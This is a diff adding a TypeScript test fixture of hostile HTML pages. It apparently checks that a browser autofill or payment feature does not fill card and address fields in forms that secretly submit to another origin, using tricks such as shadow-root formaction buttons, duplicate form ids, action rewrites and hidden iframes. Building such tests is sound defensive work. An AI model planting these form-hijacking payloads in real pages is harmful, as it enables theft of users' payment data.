@@ -1,0 +1,71 @@
+import { cardForm, type Attack } from './attack.ts'
+
+const fields =
+  '<input id="n" autocomplete="cc-number"><input id="e" autocomplete="cc-exp"><input id="c" autocomplete="cc-csc">'
+
+/** What the parser makes of a form is kept: a script that wrote the same would make something else of it. */
+const inRoot = (html: string) => `<div id="host"><template shadowrootmode="open">${html}</template></div>`
+
+const address =
+  '<input id="st" autocomplete="street-address"><input id="ci" autocomplete="address-level2"><input id="zi" autocomplete="postal-code">'
+
+/** Forms that do not send where it seems. */
+export const sendingAttacks: readonly Attack[] = [
+  {
+    title: 'the form of the fields does not stand around them, as a table makes it',
+    pages: (at) => ({
+      shop: `<table><form action="${at('stranger')}" method="post"><tr><td>${fields}</td></tr></form></table>`,
+    }),
+  },
+  {
+    title: 'a button in the same shadow root sends the form to a stranger',
+    pages: (at) => ({
+      shop: inRoot(`<form action="/pay">${fields}<button formaction="${at('stranger')}">Pay</button></form>`),
+    }),
+  },
+  {
+    title: 'two forms have one name, and the one in the shadow root sends to a stranger',
+    pages: (at) => ({
+      shop: `<form id="f" action="/pay"></form>${inRoot(`<form id="f" action="${at('stranger')}"></form><p>${fields.replaceAll('<input', '<input form="f"')}</p>`)}`,
+    }),
+  },
+  {
+    title: 'a button in the same shadow root sends to a stranger after the confirmation',
+    pages: () => ({ shop: inRoot(`<form action="/pay">${fields}</form>`) }),
+    meanwhile: (page, at) =>
+      page.evaluate(
+        (to) =>
+          document
+            .getElementById('host')!
+            .shadowRoot!.querySelector('form')!
+            .insertAdjacentHTML('beforeend', `<button formaction="${to}">Pay</button>`),
+        at('stranger'),
+      ),
+  },
+  {
+    title: 'the address of the shop is sent to a stranger',
+    pages: (at) => ({ shop: `${cardForm()}<form action="${at('stranger')}">${address}</form>` }),
+    allows: '#n, #e, #c',
+    isFilled: true,
+  },
+  {
+    title: 'the address is sent to a stranger after the confirmation',
+    pages: () => ({ shop: `${cardForm()}<form id="a" action="/address">${address}</form>` }),
+    meanwhile: (page, at) =>
+      page.evaluate((to) => document.getElementById('a')!.setAttribute('action', to), at('stranger')),
+    allows: '#n, #e, #c',
+    isFilled: true,
+  },
+  {
+    title: 'the address moves into a hidden document after the confirmation',
+    pages: () => ({
+      shop: `${cardForm()}<form id="a" action="/address">${address}</form><iframe id="h" srcdoc="<body>" style="opacity:0"></iframe>`,
+    }),
+    meanwhile: (page) =>
+      page.evaluate(() =>
+        (document.getElementById('h') as HTMLIFrameElement).contentDocument!.body.append(document.getElementById('a')!),
+      ),
+    allows: '#n, #e, #c',
+    isFilled: true,
+  },
+]
